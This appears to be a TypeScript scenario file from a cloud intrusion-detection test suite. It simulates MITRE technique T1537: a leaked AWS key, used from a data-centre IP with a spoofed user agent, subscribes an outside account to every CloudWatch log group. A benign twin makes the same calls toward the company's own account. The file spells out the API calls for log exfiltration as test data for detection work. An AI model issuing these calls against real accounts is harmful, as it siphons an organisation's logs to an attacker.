import { asking, inTurn, on, type Told } from '../in-turn.ts';
import { BOTO, dana, dataCentre, MANAGEMENT } from '../small-company.ts';
import type { Intrusion } from './intrusion.ts';

const thief = dataCentre.from('203.0.113.61').with({ userAgent: BOTO.replace('1.35.36', '1.28.62') });
const GROUPS = ['/shop/web', '/aws/lambda/order-intake', '/aws/eks/shop/cluster'];

/** Every record of these log groups goes to the account from now on. */
const subscribing = (account: string): readonly Told[] => [
  'logs:DescribeLogGroups',
  ...GROUPS.map((logGroupName) =>
    asking('logs:PutSubscriptionFilter', {
      logGroupName,
      filterName: 'all',
      filterPattern: '',
      destinationArn: `arn:aws:logs:eu-central-1:${account}:destination:central`,
    }),
  ),
  asking('logs:PutAccountPolicy', {
    policyName: 'all',
    policyType: 'SUBSCRIPTION_FILTER_POLICY',
    policyDocument: JSON.stringify({ DestinationArn: `arn:aws:logs:eu-central-1:${account}:destination:central` }),
    scope: 'ALL',
  }),
];

/** A leaked key subscribes an account of its own to every log, so that what is written there leaves by itself. */
export const logsSiphoned: Intrusion = {
  source: 'https://attack.mitre.org/techniques/T1537/',
  expects: { origin: 'user/datacentre-backup' },
  attack: inTurn(on(16, '22:10'), '30s', thief, ['sts:GetCallerIdentity', ...subscribing('666677778888')]),
  // The company's own account for logs is subscribed.
  twin: inTurn(on(16, '10:10'), '60s', dana[16]!, subscribing(MANAGEMENT)),
};
